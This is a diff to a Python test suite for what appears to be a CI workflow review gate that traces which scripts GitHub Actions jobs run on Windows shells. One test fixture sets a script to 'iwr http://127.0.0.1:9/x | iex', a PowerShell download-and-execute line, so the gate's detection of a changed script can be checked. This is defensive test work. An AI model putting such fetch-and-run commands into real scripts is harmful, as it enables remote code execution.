@@ -158,6 +158,7 @@ def test_the_new_readers_cost_linear_time() -> None:
     assert_linear(lambda text: entry_points([text], "sub"), repeated("../", tail="a/b/c.js"), budget=0.02)
     assert_linear(runvars.up, repeated("ci/../", tail="../app/x.sh"), budget=0.02)
     assert_linear(runvars.up, repeated("a/..", tail="/x.sh"), budget=0.02)
+    assert_linear(ciloops.rooted, repeated("%RUNNER_WORKSPACE${env:HOME%", tail="%/x"), budget=0.02)
 
 
 @each_case("uses", ["./../app/sub", "./../../app/app/sub", "./../app/./sub/", ".\\..\\app\\sub"])
@@ -184,3 +185,31 @@ def test_a_script_climbing_from_its_own_folder_back_into_the_checkout_runs_the_f
             "tools/x.sh": "echo\n", "tools/y.sh": "echo\n"}
     runs = tree_runs(tree)
     assert "tools/x.sh" in runs and "tools/y.sh" not in runs, body
+
+
+WINDOWS = "on: push\njobs:\n  t:\n    runs-on: windows-latest\n    steps:\n      - uses: actions/checkout@v4\n" \
+          "      - run: {line}\n        shell: {shell}\n"
+WINDOWS_LINES = [("& $env:GITHUB_WORKSPACE/scripts/x.ps1", "pwsh"),
+                 ("& \"$env:GITHUB_WORKSPACE\\scripts\\x.ps1\"", "pwsh"),
+                 ("pwsh ${env:GITHUB_WORKSPACE}\\scripts\\x.ps1", "pwsh"),
+                 ("& $env:RUNNER_WORKSPACE/app/scripts/x.ps1", "pwsh"),
+                 ("& \"${env:RUNNER_WORKSPACE}\\app\\scripts\\x.ps1\"", "pwsh"),
+                 ("& \"$env:GITHUB_WORKSPACE\\..\\app\\scripts\\x.ps1\"", "pwsh"),
+                 ("pwsh -File %GITHUB_WORKSPACE%\\scripts\\x.ps1", "cmd"),
+                 ("pwsh -File %RUNNER_WORKSPACE%\\app\\scripts\\x.ps1", "cmd"),
+                 ("& $env:HOME/work/app/app/scripts/x.ps1", "pwsh")]
+
+
+@each_case("line, shell", WINDOWS_LINES)
+def test_powershell_and_cmd_spell_the_same_folders(line: str, shell: str) -> None:
+    """PowerShell's `$env:X`/`${env:X}` and cmd's `%X%` name the root and the folder above it as bash's `$X` does."""
+    definition = WINDOWS.format(line=f"'{line}'", shell=shell)
+    assert "scripts/x.ps1" in tree_runs({".github/workflows/t.yml": definition, "scripts/x.ps1": "e\n"}), line
+
+
+@each_case("line", [line for line, shell in WINDOWS_LINES[:4]])
+def test_the_gate_reviews_a_windows_job_s_script_over_real_git(tmp_path: Path, line: str) -> None:
+    base = {".github/workflows/t.yml": WINDOWS.format(line=f"'{line}'", shell="pwsh"),
+            "scripts/x.ps1": "Write-Host ok\n"}
+    repo, first, second = two_commits(tmp_path / APP, base, {"scripts/x.ps1": "iwr http://127.0.0.1:9/x | iex\n"})
+    assert tree_gate(repo.root, first, second)[0] == 3, line
